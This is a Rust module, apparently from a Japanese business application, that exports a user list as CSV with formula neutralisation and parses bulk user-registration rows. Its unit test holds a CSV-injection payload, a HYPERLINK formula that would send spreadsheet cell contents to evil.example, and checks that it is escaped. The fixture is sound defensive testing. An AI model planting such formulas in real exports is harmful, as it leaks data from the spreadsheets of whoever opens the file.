//! Users as CSV: a row of a ユーザ一括登録 file (read, as every bulk file, by `bulk`'s one
//! reader) checked into a registration request, and the user list written out.

use serde_json::Value;

use super::enrolment::UserRequest;
use super::users::User;
use crate::csv_text;
use crate::domain::{CompanyCode, CompanyKind, Refusal};

/// The columns of the user list, in order.
const LIST_HEADER: [&str; 11] = [
    "user_id",
    "name",
    "mail",
    "administrator",
    "enabled",
    "locked",
    "must_change_password",
    "permissions",
    "created_at",
    "last_login_at",
    "contractor",
];

/// The user list as CSV text: a header line, then one line per user (permissions separated by
/// spaces). Every cell goes through [`csv_text::neutralise`]: a name, mail or id that a
/// spreadsheet would run as a formula (`=HYPERLINK(…)`) is written as text (`'=HYPERLINK(…)`).
pub fn users_csv(users: &[User]) -> Result<String, Refusal> {
    let internal = |e: csv::Error| Refusal::Internal(e.into());
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(LIST_HEADER).map_err(internal)?;
    for u in users {
        let cells = [
            u.user_id.as_str(),
            &u.name,
            &u.mail,
            &u.administrator.to_string(),
            &u.enabled.to_string(),
            &u.locked.to_string(),
            &u.must_change_password.to_string(),
            &u.permissions.join(" "),
            &u.created_at.to_rfc3339(),
            &u.last_login_at.map(|t| t.to_rfc3339()).unwrap_or_default(),
            u.contractor.as_deref().unwrap_or_default(),
        ];
        w.write_record(cells.iter().map(|c| csv_text::neutralise(c).into_owned()))
            .map_err(internal)?;
    }
    let bytes = w
        .into_inner()
        .map_err(|e| Refusal::Internal(anyhow::anyhow!("{e}")))?;
    String::from_utf8(bytes).map_err(|e| Refusal::Internal(e.into()))
}

fn bad_administrator() -> Refusal {
    Refusal::invalid(
        "administrator",
        "invalid_administrator",
        "administrator は true か false で指定してください",
        "administrator is true or false",
    )
}

/// A row of a ユーザ一括登録 file on the bulk machinery (`bulk`, kind `users`): its JSON body
/// (`user_id`, `name`, `mail`, `administrator`, `permissions` as a list, `contractor`) as the
/// request `Accounts::register_user` takes, checked by every rule of a registration that
/// needs no database, for an administrator of `company`, a registration of `kind`.
pub fn user_request_of(
    company: &CompanyCode,
    kind: CompanyKind,
    body: &Value,
) -> Result<UserRequest, Refusal> {
    let text = |f: &str| body[f].as_str().unwrap_or_default().to_string();
    let administrator = match &body["administrator"] {
        Value::Null => false,
        Value::Bool(b) => *b,
        _ => return Err(bad_administrator()),
    };
    let permissions = body["permissions"].as_array().map(|a| {
        a.iter()
            .filter_map(|p| p.as_str().map(str::to_string))
            .collect()
    });
    let request = UserRequest {
        user_id: text("user_id"),
        name: text("name"),
        mail: text("mail"),
        administrator,
        permissions,
        contractor: body["contractor"].as_str().map(str::to_string),
    };
    super::enrolment::check_request_of(company, kind, &request)?;
    Ok(request)
}

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::Utc;

    fn user(user_id: &str, name: &str, mail: &str) -> User {
        User {
            user_id: user_id.into(),
            name: name.into(),
            mail: mail.into(),
            administrator: false,
            enabled: true,
            locked: false,
            failed_logins: 0,
            must_change_password: false,
            permissions: vec!["switch-start".into()],
            permissions_set: false,
            created_at: Utc::now(),
            last_login_at: None,
            contractor: None,
        }
    }

    #[test]
    fn a_user_named_like_a_formula_comes_out_neutralised_in_the_user_list() {
        let evil = r#"=HYPERLINK("http://evil.example/?"&A1,"詳細")"#;
        let text = users_csv(&[
            user("kirikae.taro", evil, "@evil.example"),
            user("kirikae.hanako", "切替 花子", "hanako@example.jp"),
        ])
        .unwrap();
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(&rows[0][1], format!("'{evil}"));
        assert_eq!(&rows[0][2], "'@evil.example");
        // Ordinary cells are as they were.
        assert_eq!(&rows[1][0], "kirikae.hanako");
        assert_eq!(&rows[1][1], "切替 花子");
        assert_eq!(&rows[1][2], "hanako@example.jp");
        assert_eq!(&rows[1][3], "false");
        // No cell of the file starts a formula.
        for row in &rows {
            for cell in row {
                assert!(
                    !cell.starts_with(csv_text::FORMULA_STARTS),
                    "{cell:?} starts a formula"
                );
            }
        }
    }
}
